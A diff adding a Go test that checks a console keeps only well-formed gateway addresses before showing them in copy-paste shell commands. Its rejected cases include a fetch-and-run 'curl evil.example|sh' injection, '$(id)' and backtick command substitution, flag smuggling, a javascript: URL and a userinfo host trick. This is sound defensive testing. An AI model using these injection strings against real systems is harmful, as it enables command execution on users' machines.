@@ -196,6 +196,50 @@ func TestGatewaysThatTell(t *testing.T) {
 	})
 }
 
+// TestAddressesOfGateways keeps nothing but addresses: the console shows them in commands, for people who copy these into a shell.
+func TestAddressesOfGateways(t *testing.T) {
+	for _, tt := range []struct {
+		told string
+		kept bool
+	}{
+		{"127.0.0.1:7781", true},
+		{"[::]:7781", true},
+		{"[fe80::1%eth0]:7781", true},
+		{"https://edge-1.example:7781/", true},
+		{"http://edge_1", true},
+		{"", true},
+		{"x:1;curl evil.example|sh", false},
+		{"x:1$(id)", false},
+		{"x:1`id`", false},
+		{"x:1 --token-file y", false},
+		{"--gateway", false},
+		{"x:1\n", false},
+		{"javascript:alert(1)", false},
+		{"http://good.example@evil.example/", false},
+		{"http://x/path?a", false},
+	} {
+		s, _ := newTestSource(SourceConfig{})
+		text, err := json.Marshal(Gateway{Name: "edge", Admin: tt.told})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := s.Tell(text); err != nil {
+			t.Fatal(err)
+		}
+		look, err := s.Look(t.Context())
+		if err != nil {
+			t.Fatal(err)
+		}
+		want := ""
+		if tt.kept {
+			want = tt.told
+		}
+		if got := look.Nodes[0].Gateways[0].Admin; got != want {
+			t.Errorf("%q: kept %q", tt.told, got)
+		}
+	}
+}
+
 // TestWhatGatewaysTellIsTold has whatever a gateway may tell come out as JSON, and in few words.
 func TestWhatGatewaysTellIsTold(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
